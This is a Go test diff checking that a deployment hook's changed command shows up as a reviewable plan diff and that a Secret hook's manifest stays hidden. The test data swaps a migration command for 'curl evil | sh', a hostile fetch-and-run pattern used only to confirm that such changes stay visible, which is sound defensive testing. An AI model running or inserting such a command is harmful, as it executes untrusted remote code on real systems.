@@ -15,7 +15,9 @@
 package app
 
 import (
+	"maps"
 	"path/filepath"
+	"slices"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -886,4 +888,69 @@ func TestHookRuns(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestHookRunsShowTheirManifests: a hook's run shows the object it
+// creates, against the one the last apply recorded for the same hook, so
+// that a changed command is a diff a reviewer reads; a Secret's manifest
+// stays hidden. An update that changes no object runs no hook, and shows
+// the hooks it records for the next sync instead of an empty change.
+func TestHookRunsShowTheirManifests(t *testing.T) {
+	t.Parallel()
+	hook := func(id, manifest string) cty.Value {
+		return cty.ObjectVal(map[string]cty.Value{
+			builtin.HookPhase: cty.StringVal(builtin.HookPreSync), builtin.HookID: cty.StringVal(id), builtin.HookGenerateName: cty.NullVal(cty.String),
+			builtin.HookWave: cty.NumberIntVal(0), builtin.HookDeletePolicy: cty.ListValEmpty(cty.String), builtin.HookManifest: cty.StringVal(manifest),
+		})
+	}
+	app := func(command string, objects map[string]cty.Value) cty.Value {
+		return cty.ObjectVal(map[string]cty.Value{
+			builtin.AppObjects: cty.ObjectVal(objects),
+			builtin.AppHooks: cty.ListVal([]cty.Value{
+				hook("batch/v1 Job web/migrate", `{"kind":"Job","spec":{"template":{"spec":{"containers":[{"name":"migrate","command":["`+command+`"]}]}}}}`),
+				hook("v1 Secret web/token", `{"kind":"Secret","stringData":{"token":"hunter2"}}`),
+			}),
+		})
+	}
+	cm := func(v string) map[string]cty.Value {
+		return map[string]cty.Value{"v1 ConfigMap web/settings": cty.ObjectVal(map[string]cty.Value{"data": cty.ObjectVal(map[string]cty.Value{"v": cty.StringVal(v)})})}
+	}
+	secret := []cty.Path{cty.GetAttrPath(builtin.AppHooks).IndexInt(1).GetAttr(builtin.HookManifest)}
+	command := cty.GetAttrPath(builtin.HookManifest).GetAttr("spec").GetAttr("template").GetAttr("spec").GetAttr("containers").IndexInt(0).GetAttr("command").IndexInt(0)
+
+	t.Run("a run shows what changed in its hook", func(t *testing.T) {
+		ch := &plans.ResourceChange{Action: plans.Update, Before: app("migrate up", cm("1")), After: app("curl evil | sh", cm("2")),
+			BeforeSensitive: secret, AfterSensitive: secret}
+		runs := map[string]*plans.NestedChange{}
+		for _, nc := range nestedChanges(ch) {
+			runs[nc.Address] = nc
+		}
+		m := runs["hook PreSync batch/v1 Job web/migrate"]
+		if m == nil || m.Action != plans.Run {
+			t.Fatalf("no run of the migration among %v", slices.Collect(maps.Keys(runs)))
+		}
+		before, _ := command.Apply(m.Before)
+		after, err := command.Apply(m.After)
+		if err != nil || !before.RawEquals(cty.StringVal("migrate up")) || !after.RawEquals(cty.StringVal("curl evil | sh")) {
+			t.Errorf("the run's command: %#v -> %#v (%v); want migrate up -> curl evil | sh", before, after, err)
+		}
+		s := runs["hook PreSync v1 Secret web/token"]
+		want := []cty.Path{cty.GetAttrPath(builtin.HookManifest)}
+		if s == nil || !cmp.Equal(want, s.AfterSensitive, cmp.Comparer(func(a, b cty.Path) bool { return a.Equals(b) })) || !cmp.Equal(want, s.BeforeSensitive, cmp.Comparer(func(a, b cty.Path) bool { return a.Equals(b) })) {
+			t.Errorf("the Secret hook's run: %+v; want its manifest sensitive before and after", s)
+		}
+	})
+	t.Run("an update of hooks alone records them", func(t *testing.T) {
+		ch := &plans.ResourceChange{Action: plans.Update, Before: app("migrate up", cm("1")), After: app("curl evil | sh", cm("1")),
+			BeforeSensitive: secret, AfterSensitive: secret}
+		var got []string
+		for _, nc := range nestedChanges(ch) {
+			if nc.Action != plans.NoOp {
+				got = append(got, nc.Action.String()+" "+nc.Address)
+			}
+		}
+		if diff := cmp.Diff([]string{"update hook PreSync batch/v1 Job web/migrate (runs at the next sync)"}, got); diff != "" {
+			t.Errorf("nested changes (-want +got):\n%s", diff)
+		}
+	})
 }
